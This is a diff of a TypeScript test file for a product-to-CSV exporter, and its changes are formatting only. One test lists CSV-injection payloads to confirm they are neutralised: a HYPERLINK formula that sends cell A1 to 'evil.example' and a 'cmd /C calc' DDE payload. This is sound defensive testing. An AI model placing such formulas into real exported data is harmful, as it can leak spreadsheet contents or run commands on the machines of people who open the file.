@@ -36,11 +36,7 @@ const base: Product = {
 
 describe("productsToCsv", () => {
 	it("round-trips commas, quotes, newlines and CJK text through a CSV parser", () => {
-		const tricky = [
-			'连衣裙, 夏季 "新款"',
-			"line one\nline two",
-			"emoji 👗 and ，full-width comma",
-		];
+		const tricky = ['连衣裙, 夏季 "新款"', "line one\nline two", "emoji 👗 and ，full-width comma"];
 		const csv = productsToCsv(tricky.map((title, i) => ({ ...base, itemId: String(i + 1), title })));
 		expect(csv.startsWith("\uFEFF")).toBe(true);
 		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
@@ -59,7 +55,7 @@ describe("productsToCsv", () => {
 
 	it("neutralises cells a spreadsheet would run as a formula, per OWASP's CSV injection advice", () => {
 		const attacks = [
-			"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+			'=HYPERLINK("https://evil.example/?"&A1,"Click")',
 			"+1+cmd|' /C calc'!A0",
 			"-2+3",
 			"@SUM(1,1)",
@@ -68,14 +64,22 @@ describe("productsToCsv", () => {
 			"＝1+1",
 		];
 		const csv = productsToCsv(
-			attacks.map((title, i) => ({ ...base, itemId: String(i + 1), title, shop: { ...base.shop, name: title } })),
+			attacks.map((title, i) => ({
+				...base,
+				itemId: String(i + 1),
+				title,
+				shop: { ...base.shop, name: title },
+			})),
 		);
 		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
 		expect(rows.map((r) => r.title)).toEqual(attacks.map((title) => `'${title}`));
 		expect(rows.map((r) => r.shop)).toEqual(attacks.map((title) => `'${title}`));
 		// Numbers stay numbers, and text that only contains the characters further in is left alone.
 		expect(rows[0]).toMatchObject({ price: "4.5", moq: "2", url: "https://detail.1688.com/offer/1.html" });
-		const plain = parse(productsToCsv([{ ...base, title: "a=b, c+d @ e - f" }]), { bom: true, columns: true });
+		const plain = parse(productsToCsv([{ ...base, title: "a=b, c+d @ e - f" }]), {
+			bom: true,
+			columns: true,
+		});
 		expect((plain as Record<string, string>[])[0]?.title).toBe("a=b, c+d @ e - f");
 	});
 
